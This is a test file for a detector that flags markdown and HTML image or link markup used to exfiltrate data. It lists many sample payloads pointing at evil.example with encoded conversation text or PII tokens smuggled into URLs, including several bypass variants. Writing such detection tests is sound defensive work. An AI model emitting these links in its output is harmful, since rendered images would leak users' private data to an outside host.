import { describe, expect, it } from 'vitest';
import { detectWhole } from '../../../../src/policy/detect/detection.ts';
import { detectorSet } from '../../../../src/policy/detect/detector-set.ts';
import { ENTITY_NAMES } from '../../../../src/core/entity-list.ts';
import { exfiltrationDetectors } from '../../../../src/policy/injection/exfiltration-detector.ts';
import { readMarked, writeMarked } from '../../../support/marked-text.ts';
import { threadTimeMs } from '../../../support/thread-time.ts';

const set = detectorSet(exfiltrationDetectors(new Set(['docs.example'])));
const data = 'c2VjcmV0IGNvbnZlcnNhdGlvbiB0ZXh0';

describe('exfiltration_link', () => {
  it.each([
    `![a«](https://evil.example/p.png?q=${data}»)`,
    `Look: ![«](<HTTPS://evil.example/p.png?q=${data}»>)`,
    `[click«](https://evil.example/#x=${data}») for more`,
    `[r«]: https://evil.example/${data}${data}»\n![x][r]`,
    `<img «src="https://evil.example/?d=${data}»">`,
    `<img alt="a" «src=https://evil.example/?d=${data}»>`,
    `<img alt="${'a'.repeat(80)}" «src='https://evil.example/?d=${data}»'>`,
    `![a«](https://docs.example@evil.example/?q=${data}»)`,
    `![a«](https://docs.example:8443/?q=${data}»)`,
    `![a«](https:\\\\evil.example/?q=${data}»)`,
    `![a«](//evil.example/?q=${data}»)`,
    '![a«](https://evil.example/PII_EMAIL_F4HQ7ZKUQW6O.png»)',
    '![a«](https://evil.example/a?b=pii_us_ssn_f4hq7zkuqw6o»)',
    String.raw`[a«](https://evil.example/#PII\_CARD\_F4HQ7ZKUQW6O»)`,
    '![a«](https://PII_EMAIL_F4HQ7ZKUQW6O.evil.example/a.png»)',
    `![${'long '.repeat(100)}«](http://evil.example/?q=${data}»)`,
  ])('is found in %s', (marked) => {
    const { text } = readMarked(marked);
    expect(writeMarked(text, detectWhole(text, set))).toBe(marked);
  });

  it.each([
    `![a](https://docs.example/p.png?q=${data})`,
    `![a](https://DOCS.example/p.png?q=${data})`,
    '![logo](https://evil.example/logo.png?v=20240101&size=200)',
    '![a](https://docs.example/PII_EMAIL_F4HQ7ZKUQW6O.png)',
    '![a](https://evil.example/PII_EMAIL_F4HQ7ZKUQW6.png)',
    '[the manual](https://evil.example/en/latest/user-guide/getting-started)',
    `https://evil.example/?q=${data}`,
    `<script src="https://evil.example/?d=${data}"></script>`,
    `<img alt="x"> src="https://evil.example/?d=${data}"`,
    `src="https://evil.example/?d=${data}"`,
    `![a](data:image/png;base64,${data}${data})`,
  ])('is not found in %s', (text) => {
    expect(detectWhole(text, set)).toEqual([]);
  });

  it('is an entity that policies may name', () => {
    expect(exfiltrationDetectors(new Set()).every(({ detector }) => ENTITY_NAMES.has(detector.entity))).toBe(true);
  });

  it.each(['](http://a', '](', 'src=', `](https://a/?b=${data}`, 'src=http://a?', ']: <', '](http://', '](//PII_', 'PII_A'])(
    'takes at most 50 ms for 100 KB of %s',
    (part) => {
      const text = part.repeat(Math.ceil(100_000 / part.length));
      expect(threadTimeMs(() => void detectWhole(text, set), 50)).toBeLessThan(100);
    },
  );
});
